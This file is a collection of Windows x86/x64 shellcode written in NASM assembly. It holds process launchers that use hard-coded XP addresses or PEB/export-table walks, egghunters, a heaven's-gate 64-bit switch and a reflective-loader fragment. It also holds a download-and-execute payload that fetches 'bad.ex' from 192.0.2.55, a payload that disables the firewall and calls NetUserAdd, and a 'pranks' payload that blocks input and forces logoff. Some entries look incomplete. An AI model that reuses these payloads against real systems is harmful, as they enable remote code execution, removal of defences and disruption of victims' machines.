; Windows, 32 bit: hard-coded addresses of some Windows, walks to kernel32, hunts for a mark, ways to 64-bit code.

;= win_xp_winexec_ret 32 | windows x86 | call 7c86250d calc.exe
	xor ecx, ecx
	push ecx
	push dword '.exe'
	push dword 'calc'
	mov eax, esp
	inc ecx
	push ecx
	push eax
	mov ebx, 0x7c86250d
	call ebx
	xor eax, eax
	push eax
	mov eax, 0x7c81cb12
	jmp eax

;= win_xp_beep 32 | windows x86 | -
	xor eax, eax
	mov ax, 0x1f4
	push eax
	mov bx, 0x3e8
	push ebx
	mov ecx, 0x7c837a8f
	call ecx

;= win_xp_beep2 32 | windows x86 | -
	push dword 500
	push dword 750
	mov eax, 0x7c837b01
	call eax
	push byte 0
	mov eax, 0x7c81cafa
	call eax

;= win_xp_msgbox 32 | windows x86 | call 7e45058a msg box
	xor eax, eax
	push eax
	push dword 'box '
	push dword 'msg '
	mov ebx, esp
	push eax
	push ebx
	push ebx
	push eax
	mov esi, 0x7e45058a
	call esi

;= win_xp_loadlib 32 | windows x86 | call 77c48044 cmd .exe
	jmp short b
a:	pop ebx
	xor eax, eax
	mov [ebx + 10], al
	push ebx
	mov eax, 0x77e7d961
	call eax
	mov edi, 0x77c48044
	xor eax, eax
	push eax
	push dword '.exe'
	push dword 'cmd '
	push esp
	call edi
b:	call a
	db 'msvcrt.dllN'

;= win_xp_urlmon 32 | windows x86 | execute p.exe
	jmp short b
a:	pop esi
	xor ebx, ebx
	mov [esi + 24], bl
	lea edi, [esi + 25]
	mov [edi + 5], bl
	push ebx
	push ebx
	push edi
	push esi
	push ebx
	mov eax, 0x7e4d4f1d
	call eax
	push ebx
	push edi
	mov eax, 0x7c8623ad
	call eax
b:	call a
	db 'http://192.0.2.55/bad.ex', 'X', 'p.exeX'

;= win_xp_shellexec 32 | windows x86 | call 7ca41150
	xor ebx, ebx
	push ebx
	push dword '.txt'
	push dword 'c:\a'
	mov ecx, esp
	push ebx
	push dword 'open'
	mov edx, esp
	push byte 5
	push ebx
	push ebx
	push ecx
	push edx
	push ebx
	mov eax, 0x7ca41150
	call eax

;= win_mem_order 32 | windows x86 | execute calc
	xor ecx, ecx
	mov eax, [fs:ecx + 0x30]
	mov eax, [eax + 0xc]
	mov esi, [eax + 0x14]
	lodsd
	xchg eax, esi
	lodsd
	mov ebx, [eax + 0x10]
	mov edx, [ebx + 0x3c]
	add edx, ebx
	mov edx, [edx + 0x78]
	add edx, ebx
	mov esi, [edx + 0x20]
	add esi, ebx
	xor ecx, ecx
g:	inc ecx
	lodsd
	add eax, ebx
	cmp dword [eax], 0x50746547
	jnz g
	cmp dword [eax + 4], 0x41636f72
	jnz g
	cmp dword [eax + 8], 0x65726464
	jnz g
	mov esi, [edx + 0x24]
	add esi, ebx
	mov cx, [esi + ecx * 2]
	dec ecx
	mov esi, [edx + 0x1c]
	add esi, ebx
	mov edx, [esi + ecx * 4]
	add edx, ebx
	xor ecx, ecx
	push ebx
	push edx
	push ecx
	push dword 'xecA'
	mov byte [esp + 3], cl
	push dword 'WinE'
	push esp
	push ebx
	call edx
	add esp, 8
	pop ecx
	push ecx
	push dword 'calc'
	mov ecx, esp
	push byte 1
	push ecx
	call eax

;= win_init_third 32 | windows x86 | execute calc
	xor eax, eax
	mov eax, [fs:eax + 0x30]
	mov eax, [eax + 0x0c]
	mov eax, [eax + 0x1c]
	mov eax, [eax]
	mov eax, [eax]
	mov ebx, [eax + 8]
	mov eax, [ebx + 0x3c]
	mov edi, [ebx + eax + 0x78]
	add edi, ebx
	mov ecx, [edi + 0x18]
	mov esi, [edi + 0x20]
	add esi, ebx
l:	dec ecx
	mov eax, [esi + ecx * 4]
	add eax, ebx
	cmp dword [eax], 'WinE'
	jne l
	mov esi, [edi + 0x24]
	add esi, ebx
	movzx ecx, word [esi + ecx * 2]
	mov esi, [edi + 0x1c]
	add esi, ebx
	mov eax, [esi + ecx * 4]
	add eax, ebx
	push byte 0
	push dword 'calc'
	mov ecx, esp
	push byte 1
	push ecx
	call eax

;= win_egg_display 32 | windows x86 | -
	xor edx, edx
p:	or dx, 0xfff
n:	inc edx
	push edx
	push byte 0x43
	pop eax
	int 2eh
	cmp al, 5
	pop edx
	je p
	mov eax, 0x74303077
	mov edi, edx
	scasd
	jnz n
	scasd
	jnz n
	jmp edi

;= win_egg_wow64_stack 32 | windows x86 | -
	xor edx, edx
e:	or dx, 0xfff
f:	inc edx
	xor eax, eax
	mov ecx, eax
	push edx
	push eax
	push eax
	push eax
	push edx
	mov eax, 0xfffffe3a
	neg eax
	mov ebx, 0xc0
	call dword [fs:ebx]
	add esp, 16
	pop edx
	cmp al, 5
	je e
	mov eax, 0x74303077
	mov edi, edx
	scasd
	jnz f
	scasd
	jnz f
	jmp edi

;= win_egg_handler 32 | windows x86 | -
	jmp short s
k:	pop ecx
	push ecx
	push byte -1
	xor ebx, ebx
	mov [fs:ebx], esp
	mov edi, ebx
m:	push byte 2
	pop ecx
	mov eax, 0x50905090
o:	repe scasd
	jnz z
	jmp edi
z:	or di, 0xfff
	inc edi
	jmp m
s:	call k
	push byte 0x0c
	pop ecx
	mov eax, [esp + ecx]
	mov cl, 0xb8
	add dword [eax + ecx], 6
	pop eax
	add esp, 16
	push eax
	xor eax, eax
	ret

;= win_reflective 32 | windows x86 | -
	call g
g:	pop ebx
s:	dec ebx
	cmp word [ebx], 'MZ'
	jne s
	mov ebp, ebx
	mov eax, [fs:0x30]
	mov eax, [eax + 0x0c]
	mov eax, [eax + 0x14]
	mov esi, [eax + 0x28]
	movzx ecx, word [eax + 0x24]
	xor edi, edi
h:	xor eax, eax
	lodsb
	cmp al, 'a'
	jl u
	sub al, 0x20
u:	ror edi, 13
	add edi, eax
	loop h
	mov eax, [fs:0x30]
	mov eax, [eax + 0x0c]
	mov eax, [eax + 0x14]
	mov eax, [eax]
	mov eax, [eax]
	mov edx, [eax + 0x10]
	mov eax, [edx + 0x3c]
	mov eax, [edx + eax + 0x78]
	add eax, edx
	mov ecx, [eax + 0x18]
	mov eax, [eax + 0x20]
	add eax, edx
x:	mov esi, [eax]
	add esi, edx
	add eax, 4
	loop x
	ret

;= win_heaven 32 | windows x86_64 | -
	push byte 0x33
	call n
n:	add dword [esp], 5
	retf
	bits 64
	xor ecx, ecx
	mov rax, [gs:rcx + 0x60]
	mov rax, [rax + 0x18]
	mov rsi, [rax + 0x20]
	lodsq
	xchg rax, rsi
	lodsq
	mov rbx, [rax + 0x20]
	mov r8d, [rbx + 0x3c]
	add r8, rbx
	mov edx, [r8 + 0x88]
	add rdx, rbx
	mov esi, [rdx + 0x20]
	add rsi, rbx
	xor ecx, ecx
l:	inc ecx
	lodsd
	add rax, rbx
	cmp dword [rax], 'WinE'
	jne l
	ret

;= win_pranks 32 | windows x86 | call SwapMouseButton
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH box, 'MessageBoxA'
HASH beep, 'Beep'
HASH swapb, 'SwapMouseButton'
HASH lockw, 'LockWorkStation'
HASH setcomp, 'SetComputerNameA'
HASH tick, 'GetAsyncKeyState'
HASH privs, 'RtlAdjustPrivilege'
HASH exitw, 'ExitWindowsEx'
HASH blockinput, 'BlockInput'
HASH regset, 'RegSetValueExA'
HASH exitp, 'ExitProcess'
	RESOLVER
	push dword 500
	push dword 500
	CALL_API ebx, beep
	LOAD lib
	mov esi, eax
	push byte 1
	CALL_API esi, swapb
	push byte 0
	lea eax, AT(t)
	push eax
	push eax
	push byte 0
	CALL_API esi, box
	push byte 1
	CALL_API esi, blockinput
	push byte 65
	CALL_API esi, tick
	CALL_API esi, lockw
	push byte 0
	push byte 2
	CALL_API esi, exitw
	lea eax, AT(t)
	push eax
	CALL_API ebx, setcomp
	push byte 0
	CALL_API ebx, exitp
t: db 'boo', 0
lib: db 'user32', 0

;= win_firewall 32 | windows x86 | execute cmd.exe /c netsh firewall set opmode disable
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH sys, 'system'
HASH netuser, 'NetUserAdd'
	RESOLVER
	LOAD lib
	lea ecx, AT(c)
	push ecx
	CALL_API eax, sys
	pop ecx
	LOAD lib2
	push byte 0
	push byte 0
	push byte 1
	push byte 0
	CALL_API eax, netuser
	ret
c: db 'netsh firewall set opmode disable', 0
lib: db 'msvcrt', 0
lib2: db 'netapi32', 0

;= win_name_length 32 | windows x86 | execute calc
	xor ecx, ecx
	mov esi, [fs:ecx + 0x30]
	mov esi, [esi + 0x0c]
	mov esi, [esi + 0x1c]
next:	mov ebx, [esi + 0x08]
	mov edi, [esi + 0x20]
	mov esi, [esi]
	cmp [edi + 12 * 2], cx
	jne next
	mov edi, [ebx + 0x3c]
	mov edi, [ebx + edi + 0x78]
	add edi, ebx
	mov ecx, [edi + 0x18]
name:	dec ecx
	mov esi, [edi + 0x20]
	add esi, ebx
	mov esi, [esi + ecx * 4]
	add esi, ebx
	cmp dword [esi], 'WinE'
	jne name
	mov esi, [edi + 0x24]
	add esi, ebx
	movzx ecx, word [esi + ecx * 2]
	mov esi, [edi + 0x1c]
	add esi, ebx
	add ebx, [esi + ecx * 4]
	xor edx, edx
	push edx
	push dword 'calc'
	mov ecx, esp
	push edx
	push ecx
	call ebx
